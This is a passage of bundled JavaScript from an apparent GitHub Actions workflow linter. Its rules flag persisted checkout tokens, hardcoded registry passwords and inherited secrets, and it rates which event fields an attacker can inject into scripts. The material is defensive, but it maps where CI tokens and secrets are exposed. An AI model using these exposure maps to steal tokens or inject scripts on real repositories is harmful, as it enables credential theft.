    return asksInText(text) || (mayRunTask(text) && script.commands.some(runsPushingTask));
}
function asksInText(text) {
    return PUSHING_TOOL.test(text) || logicalLines(text).some(asksRemote);
}
/** A line without such a word, and without what would be asked for it, runs no such task: that needs no parser. */
function mayRunTask(text) {
    if (/\bhub\b/.test(text))
        return true;
    return logicalLines(text).some((line) => PUSHING_WORD.test(line) &&
        (RUNNER_NAME.test(line) || line.split(/\s+/).some((word) => /[/\\.]/.test(word) && PUSHING_WORD.test(word))));
}
/** What surely isn't in a comment, for none begins without its sign. */
function withoutCommentedLines(text) {
    return text.includes("#") ? text.replace(/^.*#.*$/gm, "") : text;
}
function withoutComments({ text, regions }) {
    if (!text.includes("#"))
        return text;
    let kept = "";
    let at = 0;
    for (const { quoting, start, end } of regions) {
        if (quoting !== "comment")
            continue;
        kept += text.slice(at, start);
        at = end;
    }
    return kept + text.slice(at);
}
/** Pieces between line breaks and the operators of shells; a line that goes on is one with the next. */
function logicalLines(text) {
    return text.replace(/[\\`^]\r?\n/g, " ").split(/[\n;|&]/);
}
/** Looked for in all text, as `git push` may be an argument, or a string of a program. */
function asksRemote(line) {
    const git = line.search(/\bgit\b/);
    return (git !== -1 && ASKS_REMOTE.test(line.slice(git))) || ASKS_REMOTE_ITSELF.test(line);
}
const EXECUTE = ["exec", "run", "run-script", "shell", "tool", "x"];
/** Behind these the words name tasks, tools or scripts; where subcommands are given, only behind one of them. */
const RUNNERS = new Map([
    ...runners("ant auto bash brew bun bunx cargo changeset deno docusaurus fastlane gmake gradle gradlew inv invoke"),
    ...runners("just ksh lage lerna mage make mike mill mkdocs mvn mvnw node nox npx nx php pnpm pnpx pwsh powershell"),
    ...runners("py python rake ruby rush sbt sh source task tox ts-node tsx turbo uvx yarn zsh ."),
    ...runners("bundle composer conda dotnet go hatch mamba mise nix pdm pipenv pipx pixi poetry rye uv", EXECUTE),
    ...runners("docker podman", ["exec", "run"]),
    // `npm version` runs the package's `postversion`, which is there to push.
    ...runners("npm", [...EXECUTE, "version"]),
]);
function runners(names, subcommands) {
    return names.split(" ").map((name) => [name, subcommands ? new Set(subcommands) : null]);
}
const RUNNER_NAME = new RegExp(`(?:^|[^\\w-])(?:${[...RUNNERS.keys()].filter((name) => name !== ".").join("|")}|python[\\d.]+|\\.)(?:\\.(?:exe|cmd|bat))?(?=[\\s"']|$)`, "i");
/** Their own `publish` sends a package to a registry. */
const REGISTRY_CLIENTS = new Set(["bun", "cargo"]);
/** `./ci/release.sh`, `make publish`, `npx nx release`, `python -m semantic_release version`. */
function runsPushingTask(command) {
    const { name, args } = (0,lib_shell/* effectiveCommand */.l1)(command);
    const program = name?.literal ?? name?.text ?? "";
    if (/[/\\.]/.test(program) && PUSHING_WORD.test(program))
        return true;
    const called = programName(program);
    // All that it adds to git asks GitHub.
    if (called === "hub")
        return true;
    const subcommands = RUNNERS.get(called);
    if (subcommands === undefined)
        return false;
    const words = args.flatMap(({ literal, text }) => (literal ?? text).split(/\s+/)).filter(isTaskName);
    if (REGISTRY_CLIENTS.has(called) && words[0] === "publish")
        return false;
    return ((subcommands === null || words.some((word) => subcommands.has(word))) &&
        words.some((word) => PUSHING_WORD.test(word)));
}
/** Not an option, a setting or code. */
function isTaskName(word) {
    return /^[\w@.+:/\\][\w@.+/\\:-]*$/.test(word);
}
/** `./gradlew` → `gradlew`, `C:\tools\python3.12.exe` → `python`. */
function programName(path) {
    const last = path.slice(Math.max(path.lastIndexOf("/"), path.lastIndexOf("\\")) + 1).toLowerCase();
    return last.replace(/\.(?:exe|cmd|bat)$/, "").replace(/^python[\d.]+$/, "python");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/artipacked.js








const INPUT = "persist-credentials";
/* harmony default export */ const artipacked = (defineRule({
    id: "artipacked",
    category: "credentials",
    severity: "medium",
    isZizmor: true,
    fixes: "both",
    summary: "A checkout leaves its credential on disk",
    risk: "Every later step can read the token from there, the tools and scripts of dependencies too; and where the workspace is uploaded, everyone who can download the artifact.",
    mend: "Set `persist-credentials: false`. A step that pushes gets its own token.",
    sources: [
        "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",
        "https://github.com/actions/checkout#usage",
    ],
    examples: { flagged: [], silent: [] },
    job(job, report) {
        judgeSteps(job.steps, false, report);
    },
    // Steps of the caller come after those of a composite action.
    action(action, report) {
        if (action.kind === "composite")
            judgeSteps(action.steps, true, report);
    },
}));
function judgeSteps(steps, hasUnseenSteps, report) {
    const first = steps.findIndex((step) => personaOf(step) !== null);
    if (first === -1)
        return;
    const later = new LaterSteps(hasUnseenSteps, report);
    for (const step of steps.slice(first).reverse()) {
        const persona = personaOf(step);
        if (persona)
            judgeCheckout(step, later, persona, report);
        later.add(step);
    }
}
/** What is known of the steps behind one, gathered from the last to the first. */
class LaterSteps {
    hasUnseen;
    report;
    isEmpty = true;
    mayPush;
    /** By the folder of the workspace that they take along; `.` is the workspace. */
    uploads = new Map();
    constructor(hasUnseen, report) {
        this.hasUnseen = hasUnseen;
        this.report = report;
        this.mayPush = hasUnseen;
    }
    add(step) {
        this.isEmpty = false;
        this.mayPush ||= mayNeedGitCredential(step, this.report.repository);
        const upload = artifactUploadOf(step);
        for (const folder of upload?.folders ?? []) {
            const found = { step, isSure: upload?.isSure === true };
            this.uploads.set(folder, better(found, this.uploads.get(folder)));
        }
    }
    /** The upload that takes the folder along, or one that it lies in. */
    uploadOf(folder) {
        const parts = folder === "." ? [] : folder.split("/").slice(0, MOST_FOLDERS);
        const holders = [".", ...parts.map((_, index) => parts.slice(0, index + 1).join("/"))];
        const uploads = holders.flatMap((holder) => this.uploads.get(holder) ?? []);
        return uploads.reduce((best, upload) => better(upload, best), undefined);
    }
}
/** What is sure before what isn't, then the first. */
function better(a, b) {
    if (!b)
        return a;
    if (a.isSure !== b.isSure)
        return a.isSure ? a : b;
    return a.step.index < b.step.index ? a : b;
}
/** Folders that lie deeper are made to be slow. */
const MOST_FOLDERS = 50;
/** Null where no credential is kept. */
function personaOf(step) {
    if (!step.uses?.is("actions/checkout"))
        return null;
    if (step.hasDynamicInputs)
        return "pedantic";
    const setting = step.input(INPUT)?.value;
    if (setting?.kind !== "scalar" || setting.isNull)
        return "regular";
    if ((0,model/* expressionsIn */.l$)(setting).length > 0)
        return (0,model/* isConstant */.VO)(setting, false) ? null : "pedantic";
    // The action compares with "true" and knows no other word for it.
    return setting.value.trim().toLowerCase() === "true" ? "auditor" : null;
}
function judgeCheckout(step, later, persona, report) {
    const upload = later.uploadOf(folderOf(step));
    const severity = artipacked_severityOf(step, upload !== undefined);
    const confidence = upload ? (upload.isSure ? "high" : "medium") : later.isEmpty ? "low" : "medium";
    const message = upload ? uploadMessage(upload) : diskMessage(later);
    const related = upload ? [{ place: firstLineOf(upload.step.map), message: "the workspace is uploaded here" }] : [];
    report(firstLineOf(step.map), message, {
        severity,
        confidence,
        persona,
        related,
        fix: persona === "auditor" ? null : fixOf(step, !later.mayPush),
    });
}
function uploadMessage({ isSure }) {
    const message = "The checkout leaves its token in the workspace, which is uploaded as an artifact";
    return isSure ? message : `${message}; whether that action's version leaves hidden files out isn't known`;
}
function diskMessage(later) {
    const hasReaders = !later.isEmpty || later.hasUnseen;
    const readers = hasReaders ? "every later step can read it" : "no later step reads it today";
    return `The checkout leaves its token on disk; ${readers}`;
}
/** Where in the workspace the repository is put. */
function folderOf(step) {
    const path = step.input("path")?.value;
    return path?.kind === "scalar" ? (0,model/* normalizePath */.Fd)(path.value) || "." : ".";
}
/** Since v6 the credential lies outside the workspace, where an upload doesn't take it along. */
function artipacked_severityOf({ uses }, isUploaded) {
    const severity = isUploaded ? "high" : "medium";
    const major = uses && usedVersion(uses)?.[0];
    return (major ?? 0) >= 6 ? (0,lib/* lowered */.DM)(severity) : severity;
}
function fixOf(step, safe) {
    const edit = setIn(step.map, "with", INPUT, "false", step.map.entry("uses"));
    return edit && { description: `set \`${INPUT}: false\``, safe, edits: [edit] };
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/expressions/index.js + 13 modules
var expressions = __nccwpck_require__(6481);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/hardcoded-container-credentials.js



/* harmony default export */ const hardcoded_container_credentials = (defineRule({
    id: "hardcoded-container-credentials",
    category: "credentials",
    severity: "high",
    isZizmor: true,
    summary: "A registry password stands in the workflow",
    risk: "Everyone who can read the repository, or any old clone of it, can pull and perhaps push images with this password.",
    mend: "Revoke the password, store a new one as a secret, and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.",
    sources: [
        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials",
    ],
    examples: { flagged: [], silent: [] },
    container(container, report) {
        const password = container.credentials?.scalar("password");
        if (!password || password.isNull || password.value === "" || isFromElsewhere(password))
            return;
        const whose = container.kind === "container" ? "the job's container" : `the service \`${container.name}\``;
        report(password, `The registry password of ${whose} is written out`);
    },
}));
/** An expression, in which no text of its own may be the password: `secrets.X || 'fallback'` writes one out. */
function isFromElsewhere(password) {
    const whole = (0,model/* wholeExpression */.wY)(password)?.expression;
    if (!whole)
        return (0,model/* expressionsIn */.l$)(password).length > 0;
    return (0,expressions/* resultLeaves */.uo)(whole).every((leaf) => leaf.kind !== "literal" || typeof leaf.value !== "string" || leaf.value === "");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/visit-scalars.js
/**
 * Calls `visit` for every scalar value below a node, each once however many aliases lead there.
 *
 * @param isWorth says of a node whether to look into it
 */
function visitScalars(node, visit, isWorth = () => true) {
    const seen = new Set();
    const enter = (current) => {
        if (seen.has(current) || !isWorth(current))
            return;
        seen.add(current);
        if (current.kind === "scalar")
            visit(current);
        else if (current.kind === "seq")
            for (const item of current.items)
                enter(item.value);
        else
            for (const entry of current.entries)
                enter(entry.value);
    };
    enter(node);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/named-secrets.js



/** The secrets that expressions below a node name, as they write them; `*` where the name is computed or all are meant. */
function secretsNamedBelow(node) {
    const names = [];
    const mayHold = mentionsOf(node.file);
    visitScalars(node, (scalar) => collectSecretsNamedIn(scalar, names), mayHold);
    return names;
}
function collectSecretsNamedIn(scalar, names) {
    for (const embedded of (0,model/* expressionsIn */.l$)(scalar)) {
        // Few expressions speak of secrets: the others needn't be parsed for this.
        if (!/secrets/i.test(embedded.body) || !embedded.expression)
            continue;
        for (const { segments, node } of (0,expressions/* references */.Ft)(embedded.expression)) {
            if (segments[0] !== "secrets")
                continue;
            const name = segments[1] ?? "*";
            names.push(name === "*" ? name : asWritten(scalar.value.slice(node.start, node.end), name));
        }
    }
}
function asWritten(text, name) {
    const at = text.toLowerCase().indexOf(name, "secrets".length);
    return at === -1 ? name : text.slice(at, at + name.length);
}
const cache = new WeakMap();
/** Whether a node may speak of secrets, told from the text, so that the rest of the file needn't be made into a tree. */
function mentionsOf(file) {
    let mayHold = cache.get(file);
    if (!mayHold) {
        mayHold = readMentions(file.text);
        cache.set(file, mayHold);
    }
    return mayHold;
}
/** By these a node can hold what isn't written in its own lines: anchors, and the escapes of double-quoted text. */
const SPEAKS_ELSEWHERE = /(?:^|[\s:,[{-])&[^\s&]|\\[xuU]/m;
function readMentions(text) {
    if (SPEAKS_ELSEWHERE.test(text))
        return () => true;
    const offsets = Array.from(text.matchAll(/secrets/gi), ({ index }) => index);
    return ({ start, end }) => {
        const first = firstFrom(offsets, start);
        return first !== undefined && first < end;
    };
}
/** The least of the sorted offsets that isn't below `start`. */
function firstFrom(offsets, start) {
    let low = 0;
    let high = offsets.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (offsets[middle] < start)
            low = middle + 1;
        else
            high = middle;
    }
    return offsets[low];
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/secrets-inherit.js



/* harmony default export */ const secrets_inherit = (defineRule({
    id: "secrets-inherit",
    category: "credentials",
    severity: "medium",
    isZizmor: true,
    fixes: "unsafe",
    summary: "A called workflow gets every secret of the caller",
    risk: "Whoever changes the called workflow, or finds a hole in it, takes every secret of this repository and its organization, not only those that it needs.",
    mend: "Pass the secrets that it needs, by name: `secrets: {TOKEN: ${{ secrets.TOKEN }}}`.",
    sources: [
        "https://docs.github.com/actions/how-tos/reuse-automations/reuse-workflows#passing-inputs-and-secrets-to-a-reusable-workflow",
    ],
    examples: { flagged: [], silent: [] },
    reusableJob(job, report) {
        if (!job.inheritsSecrets || !job.secrets)
            return;
        report(job.secrets.value, `\`${job.uses.text}\` gets every secret`, { fix: listSecrets(job, report) });
    },
}));
/**
 * A local callee shows which secrets it uses. GitHub passes only declared ones by name, so the others are declared. Where
 * it names an environment, its secrets may be that environment's, which can't be passed by name.
 */
function listSecrets(job, report) {
    const callee = report.repository.resolve(job.uses);
    if (callee?.kind !== "workflow" || !job.secrets)
        return null;
    const names = secretsUsedBy(callee);
    if (names?.length === 0)
        return passNone(job);
    const declaration = names && declareMissing(callee, names);
    if (!names || !declaration || callee.jobs.some((called) => called.map.entry("environment")))
        return null;
    const pairs = names.map((name) => `${name}: "\${{ secrets.${name} }}"`);
    const edit = setValue(job.secrets, `{${pairs.join(", ")}}`);
    return (edit && {
        description: "pass only the secrets that the called workflow uses",
        safe: false,
        edits: [edit],
        others: declaration.length > 0 ? [{ path: callee.path, edits: declaration }] : [],
    });
}
/** An empty mapping would be no valid `secrets`. */
function passNone(job) {
    const edit = job.secrets && removeEntry(job.map, job.secrets);
    return edit ? { description: "pass no secret: the called workflow uses none", safe: false, edits: [edit] } : null;
}
/** Null where the callee's `workflow_call` has no form to which a declaration can be added. */
function declareMissing(callee, names) {
    const trigger = callee.trigger("workflow_call");
    const on = callee.on?.value;
    if (!trigger || on?.kind !== "map")
        return null;
    const declared = new Set(trigger.secrets.map(({ key }) => key.value.toLowerCase()));
    const missing = names.filter((name) => !declared.has(name.toLowerCase()));
    if (missing.length === 0)
        return [];
    // Optional, as an inherited secret is that doesn't exist.
    const edits = trigger.settings?.entry("secrets")
        ? missing.map((name) => setIn(trigger.settings, "secrets", name, "{required: false}"))
        : [setIn(on, "workflow_call", "secrets", `{${missing.map((name) => `${name}: {required: false}`).join(", ")}}`)];
    const found = edits.filter((edit) => edit !== null);
    // Insertions at one place come in no order: one edit holds them all.
    return found.length === edits.length ? [joined(found)] : null;
}
function joined(edits) {
    const [first] = edits;
    return { ...first, text: edits.map(({ text }) => text).join("") };
}
/** By called workflow: many jobs call the same one. */
const used = new WeakMap();
/** Null when it may use any. */
function secretsUsedBy(workflow) {
    let names = used.get(workflow);
    if (names === undefined) {
        names = readSecretsUsedBy(workflow);
        used.set(workflow, names);
    }
    return names;
}
function readSecretsUsedBy(workflow) {
    if (workflow.jobs.some((called) => called.kind === "reusable" && called.inheritsSecrets))
        return null;
    const names = new Map();
    const add = (name) => names.set(name.toLowerCase(), names.get(name.toLowerCase()) ?? name);
    for (const { key } of workflow.trigger("workflow_call")?.secrets ?? [])
        add(key.value);
    secretsNamedBelow(workflow.root).forEach(add);
    names.delete("github_token");
    return names.has("*") ? null : [...names.values()].sort();
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/code-inputs.js
/**
 * Inputs of well-known actions that are code: what is expanded into them is run.
 *
 * By action in lower case; the language decides how a value can be handed over without being expanded.
 */
const CODE_INPUTS = new Map([
    ["8398a7/action-slack", ["custom_payload"]],
    ["actions/github-script", ["script"]],
    ["addnab/docker-run-action", ["run", "options"]],
    ["amadevus/pwsh-script", ["script"]],
    ["appleboy/ssh-action", ["script"]],
    ["azure/cli", ["inlinescript"]],
    ["azure/powershell", ["inlinescript"]],
    ["cardinalby/export-env-action", ["envfile"]],
    ["cardinalby/js-eval-action", ["expression"]],
    ["cypress-io/github-action", ["command", "install-command", "build", "start"]],
    ["devorbitus/yq-action-output", ["cmd"]],
    ["docker/bake-action", ["set"]],
    ["gautamkrishnar/blog-post-workflow", ["item_exec"]],
    ["jannekem/run-python-script-action", ["script"]],
    ["mikefarah/yq", ["cmd"]],
    ["nick-fields/retry", ["command", "on_retry_command"]],
    ["nickcharlton/diff-check", ["command"]],
    ["reactivecircus/android-emulator-runner", ["script"]],
    ["uraimo/run-on-arch-action", ["run", "install"]],
    ["vmactions/freebsd-vm", ["run", "prepare"]],
]);
/** The inputs of an action that are code, in lower case. `name` is `owner/repo[/path]` in lower case. */
function codeInputsOf(name) {
    return CODE_INPUTS.get(name) ?? [];
}
/** The language of an action's code inputs, where a value can be read from the environment in it. */
function languageOf(name) {
    return name === "actions/github-script" ? "javascript" : "unknown";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/contexts.js
/** Contexts outside `github.event` whose text is the platform's own, or a name too narrow to break out of a script. */
const FIXED_GITHUB = new Set([
    "action_path",
    "action_status",
    "actor",
    "actor_id",
    "api_url",
    "env",
    "event_name",
    "event_path",
    "graphql_url",
    "job",
    "path",
    "ref_protected",
    "ref_type",
    "repository",
    "repository_id",
    "repository_owner",
    "repository_owner_id",
    "repositoryurl",
    "retention_days",
    "run_attempt",
    "run_id",
    "run_number",
    "secret_source",
    "server_url",
    "sha",
    "step_summary",
    "token",
    "triggering_actor",
    "workflow_sha",
    "workspace",
]);
/** Last words of a payload's path that are numbers, dates, hashes, logins, flags or words from a closed list. */
const FIXED_FIELDS = new Set([
    "+1",
    "-1",
    "active_lock_reason",
    "additions",
    "after",
    "archived",
    "author_association",
    "auto_merge",
    "before",
    "changed_files",
    "color",
    "comments",
    "commits",
    "conclusion",
    "deleted",
    "deletions",
    "disabled",
    "distinct",
    "draft",
    "forced",
    "fork",
    "forks",
    "full_name",
    "gravatar_id",
    "id",
    "is_template",
    "line",
    "locked",
    "login",
    "maintainer_can_modify",
    "mergeable",
    "mergeable_state",
    "merged",
    "node_id",
    "number",
    "open_issues",
    "original_line",
    "original_position",
    "position",
    "prerelease",
    "private",
    "rebaseable",
    "review_comments",
    "run_attempt",
    "run_number",
    "sha",
    "side",
    "site_admin",
    "size",
    "slug",
    "start_line",
    "state",
    "state_reason",
    "status",
    "timestamp",
    "topics",
    "type",
    "user_view_type",
    "visibility",
    "watchers",
    "workflow_id",
]);
/** Fields of the payload itself, beside its objects. */
const FIXED_TOP = new Set([
    "action",
    "after",
    "before",
    "created",
    "deleted",
    "forced",
    "number",
    "ref_type",
]);
const FIXED_ENDINGS = ["_at", "_count", "_id", "_sha"];
/** Objects whose addresses are made of logins, names of repositories, numbers and hashes alone. */
const PLAIN_ADDRESSES = new Set([
    "actor",
    "author",
    "check_run",
    "comment",
    "discussion",
    "forkee",
    "head_repository",
    "issue",
    "organization",
    "owner",
    "pull_request",
    "repo",
    "repository",
    "review",
    "sender",
    "triggering_actor",
    "user",
    "workflow_run",
]);
/**
 * Rates a context of `github.…`; undefined for one that is no `github` context.
 *
 * @param segments lower case, `*` for an index or a filter
 * @see the webhook payloads of the events that trigger workflows; GitHub's guide "Script injections"
 */
function rateGithubContext(segments) {
    if (segments[0] !== "github")
        return undefined;
    const field = segments[1];
    if (field === undefined || field === "*")
        return "arbitrary";
    if (field !== "event")
        return FIXED_GITHUB.has(field) ? "fixed" : "arbitrary";
    return ratePayload(segments.slice(2));
}
function ratePayload(path) {
    // Objects, when printed, print everything in them; `labels.*` is one, too.
    const last = path.findLast((segment) => segment !== "*");
    const first = path[0];
    if (last === undefined || first === undefined)
        return "arbitrary";
    if (first === "inputs" || first === "client_payload")
        return "arbitrary";
    // `changes.title.from` holds the old title.
    if (first === "changes")
        return "arbitrary";
    if (path.length === 1)
        return FIXED_TOP.has(last) ? "fixed" : "arbitrary";
    if (FIXED_FIELDS.has(last) || FIXED_ENDINGS.some((ending) => last.endsWith(ending)))
        return "fixed";
    if (last === "name")
        return isRepositoryName(path) ? "fixed" : "arbitrary";
    if (last === "url" || last.endsWith("_url") || last === "href")
        return rateAddress(path);
    return "arbitrary";
}
function isRepositoryName(path) {
    const parent = path.at(-2);
    return parent === "repository" || parent === "repo" || parent === "forkee" || parent === "head_repository";
}
function rateAddress(path) {
    const parent = path.at(-2) ?? "";
    return PLAIN_ADDRESSES.has(parent) || path.at(-3) === "_links" ? "fixed" : "structured";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/rating.js




const HARMLESS = { severity: "low", confidence: "high", persona: "pedantic" };
/** An `env.X` that stands for another `env.X` is followed this far. */
const MAX_ENV_HOPS = 5;
/**
 * Rates what an expression may expand to in a step: the worst of the contexts whose text reaches its result.
 *
 * The scale is zizmor's for `template-injection`, so that both tools speak of the same places; contexts that can't hold a
 * character that breaks out (numbers, hashes, logins) are harmless here.
 */
function rateExpression(expression, step) {
    return rate(expression, step, 0);
}
function rate(expression, step, hops) {
    let worst = { ...HARMLESS, source: "", why: "expanded into code, which is safe only as long as its text is" };
    for (const { segments, node } of (0,expressions/* dataflow */.z5)(expression)) {
        const rating = rateContext(segments, step, hops);
        if (rating && isWorse(rating, worst))
            worst = { ...rating, node };
    }
    return worst;
}
function isWorse(a, b) {
    if (a.persona !== b.persona)
        return a.persona === "regular";
    return (0,lib/* compareSeverity */.zK)(a.severity, b.severity) < 0 || (a.severity === b.severity && b.source === "");
}
function rateContext(segments, step, hops) {
    const source = segments.join(".");
    switch (segments[0]) {
        case "github":
            return rateGithub(segments, step, source);
        case "inputs":
            return rateInput(segments[1], step, source);
        case "env":
            return rateEnv(segments[1], step, source, hops);
        case "matrix":
            return rateMatrix(segments.slice(1), step, source);
        case "secrets":
            return undefined;
        case "steps":
        case "needs":
        case "jobs":
            return rateOutput(segments, source);
        case "runner":
            return undefined;
        default:
            return { severity: "info", confidence: "low", persona: "regular", source, why: "not fixed by this file" };
    }
}
function rateGithub(segments, step, source) {
    if (segments[1] === "event" && segments[2] === "inputs" && segments[3] !== undefined && segments[3] !== "*") {
        return rateInput(segments[3], step, source);
    }
    const capability = rateGithubContext(segments);
    if (capability === "fixed")
        return undefined;
    if (capability === "structured") {
        return {
            severity: "medium",
            confidence: "high",
            persona: "regular",
            source,
            why: "partly an attacker's own words",
        };
    }
    return { severity: "high", confidence: "high", persona: "regular", source, why: "what an attacker may write" };
}
function rateInput(name, step, source) {
    const declared = name === undefined ? [] : declarationsOf(step, name);
    if (declared.length === 0) {
        return {
            severity: "low",
            confidence: "low",
            persona: "regular",
            source,
            why: "an input that this file doesn't declare",
        };
    }
    const isText = declared.some((input) => input.type === "string");
    if (!isText)
        return { ...HARMLESS, source, why: `an input of type ${declared[0]?.type}` };
    return { severity: "high", confidence: "high", persona: "regular", source, why: "whatever the caller passes" };
}
function declarationsOf(step, name) {
    const { owner } = step;
    const inputs = owner.kind === "composite"
        ? owner.inputs
        : ["workflow_call", "workflow_dispatch"].flatMap((event) => owner.workflow.trigger(event)?.inputs ?? []);
    return inputs.filter((input) => input.name.toLowerCase() === name);
}
/** A variable is as bad as the expression that it was set from; one that isn't set here may be set by an earlier step. */
function rateEnv(name, step, source, hops) {
    const value = name === undefined ? undefined : step.variable(name)?.value;
    if (!value) {
        return {
            severity: "low",
            confidence: "high",
            persona: "regular",
            source,
            why: "a variable that isn't set in this file",
        };
    }
    const expressions = (0,model/* expressionsIn */.l$)(value);
    if (expressions.length === 0)
        return { ...HARMLESS, source, why: "a variable with fixed text" };
    let worst = {
        severity: "low",
        confidence: "high",
        persona: "regular",
        source,
        why: "a variable set from an expression",
    };
    for (const { expression } of hops < MAX_ENV_HOPS ? expressions : []) {
        const inner = expression && rate(expression, step, hops + 1);
        if (inner?.persona === "regular" && isWorse(inner, worst)) {
            worst = { ...inner, why: `set from \`${inner.source}\`, ${inner.why}` };
        }
    }
    return worst;
}
function rateMatrix(path, step, source) {
    const matrix = step.owner.kind === "normal" ? step.owner.matrix : null;
    if (!matrix)
        return undefined;
    const { values, isOpen } = matrix.valuesOf(path);
    if (!isOpen && values.every((value) => (0,model/* expressionsIn */.l$)(value).length === 0))
        return undefined;
    return {
        severity: "medium",
        confidence: "medium",
        persona: "regular",
        source,
        why: "a matrix value that an expression fills",
    };
}
const CLEAN_OUTCOMES = new Set(["conclusion", "outcome", "result"]);
function rateOutput(segments, source) {
    if (segments.length === 3 && CLEAN_OUTCOMES.has(segments[2]))
        return undefined;
    return { severity: "info", confidence: "low", persona: "regular", source, why: "what an earlier step or job wrote" };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/event-contexts.js
const PULL_REQUESTS = ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"];
/** Which events fill an object of the payload, or a context that comes from one; others leave it null. */
const SET_BY = new Map([
    ["github.head_ref", ["pull_request", "pull_request_target"]],
    ["github.base_ref", ["pull_request", "pull_request_target"]],
    ["github.event.pull_request", PULL_REQUESTS],
    ["github.event.review", ["pull_request_review"]],
    ["github.event.comment", ["issue_comment", "pull_request_review_comment", "discussion_comment", "commit_comment"]],
    ["github.event.issue", ["issues", "issue_comment"]],
    ["github.event.discussion", ["discussion", "discussion_comment"]],
    ["github.event.workflow_run", ["workflow_run"]],
    ["github.event.pages", ["gollum"]],
    ["github.event.forkee", ["fork"]],
    ["github.event.merge_group", ["merge_group"]],
    ["github.event.client_payload", ["repository_dispatch"]],
]);
/** May one of the events that start a step's workflow set this context? True where that can't be known. */
function isSetBy(source, { owner }) {
    const events = eventsThatSet(source);
    if (!events || owner.kind === "composite")
        return true;
    const { triggers } = owner.workflow;
    return triggers.length === 0 || triggers.some(({ event }) => event === "workflow_call" || events.includes(event));
}
/** Do all events that start a step's workflow set this context? False where that can't be known. */
function isAlwaysSet(source, { owner }) {
    const events = eventsThatSet(source);
    if (!events)
        return !source.startsWith("github.event.");
    if (owner.kind === "composite")
        return false;
    const { triggers } = owner.workflow;
    return triggers.length > 0 && triggers.every(({ event }) => events.includes(event));
}
/** Undefined where it isn't known, and for what is there in every run. */
function eventsThatSet(source) {
    const path = source.split(".");
    return SET_BY.get(path.slice(0, 2).join(".")) ?? SET_BY.get(path.slice(0, 3).join("."));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/our-names.js

/** Made-up names: they differ from whatever an expression compares them with. */
const OTHER_REPOSITORY = "this-owner/this-repository";
const OTHER_BRANCH = "the-default-branch";
/** By hand nobody writes more; all pairs are tried. */
const MOST_NAMES = 30;
const DEFAULT_BRANCH = "github.event.repository.default_branch";
const REPOSITORY = new Set([
    "github.repository",
    "github.event.repository.full_name",
    "github.event.pull_request.base.repo.full_name",
    "github.event.workflow_run.repository.full_name",
]);
const OWNER = new Set([
    "github.repository_owner",
    "github.event.repository.owner.login",
    "github.event.pull_request.base.repo.owner.login",
    "github.event.pull_request.base.user.login",
    "github.event.workflow_run.repository.owner.login",
]);
/** The ways in which an expression's tests of our names may come out: each name that it tests for, and another one. */
function namesOfOurs(expression) {
    const repositories = new Set([OTHER_REPOSITORY]);
    const branches = new Set([OTHER_BRANCH]);
    for (const [path, text] of testedTexts(expression)) {
        if (path === DEFAULT_BRANCH)
            branches.add(text);
        else if (OWNER.has(path))
            repositories.add(`${text}/this-repository`);
        else if (REPOSITORY.has(path))
            repositories.add(text.includes("/") ? text : `${text}/this-repository`);
    }
    const someBranches = [...branches].slice(0, MOST_NAMES);
    return [...repositories]
        .slice(0, MOST_NAMES)
        .flatMap((repository) => someBranches.map((defaultBranch) => ({ repository, defaultBranch })));
}
/** Contexts with the constant texts that they are compared with, or that a function such as `contains` is given beside them. */
function testedTexts(expression) {
    const found = [];
    (0,expressions/* visitExpression */.wM)(expression, (node) => {
        if (node.kind !== "binary" && node.kind !== "call")
            return;
        const operands = (0,expressions/* childrenOf */.LU)(node);
        const texts = operands.flatMap(constantTexts);
        for (const operand of operands) {
            const path = (0,expressions/* contextPath */.VJ)(operand)?.segments.join(".");
            if (path !== undefined)
                found.push(...texts.map((text) => [path, text]));
        }
    });
    return found;
}
/** A text, or those of a list. */
function constantTexts(expression) {
    const result = (0,expressions/* evaluate */._3)(expression, expressions/* NOTHING_KNOWN */.GN);
    return result.known ? [result.value].flat().filter((value) => typeof value === "string") : [];
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/triggers.js
/**
 * Events that anybody can fire in a public repository, without write access.
 *
 * @see Events that trigger workflows; a scan of the webhook documentation for who can cause each
 */
const FIRED_BY_ANYONE = new Set([
    "commit_comment",
    "discussion",
    "discussion_comment",
    "fork",
    "gollum",
    "issue_comment",
    "issues",
    "pull_request",
    "pull_request_review",
    "pull_request_review_comment",
    "pull_request_target",
    "watch",
    "workflow_run",
]);
/** Of these, the ones whose runs get secrets and a full token all the same: they run in the base repository's context. */
const UNPRIVILEGED = new Set([
    "pull_request",
    "pull_request_review",
    "pull_request_review_comment",
]);
function isFiredByAnyone(event) {
    return FIRED_BY_ANYONE.has(event);
}
/** Can anybody start a run that holds secrets and a write token by this event? */
function isPrivileged(event) {
    return FIRED_BY_ANYONE.has(event) && !UNPRIVILEGED.has(event);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/strangers.js




const STRANGERS_ID = 2;
const STRANGERS_FORK = { repository: "a-stranger/fork", id: (0,expressions/* known */.eO)(STRANGERS_ID) };
const OUR_ID = {
    equals: (other) => (other === STRANGERS_ID ? false : undefined),
    startsWith: () => undefined,
    endsWith: () => undefined,
    contains: () => undefined,
};
/** What fired the run before a `workflow_run`: strangers fired that, too. */
const EVENT_OF_STRANGERS = {
    ...(0,expressions/* textAfter */.eC)(""),
    equals: (other) => (typeof other === "string" && !isFiredByAnyone(other.toLowerCase()) ? false : undefined),
};
/** Their runs belong to the pull request's own ref; those of all other events that strangers fire, to a branch of ours. */
const ON_MERGE_REF = new Set([
    "pull_request",
    "pull_request_review",
    "pull_request_review_comment",
]);
/**
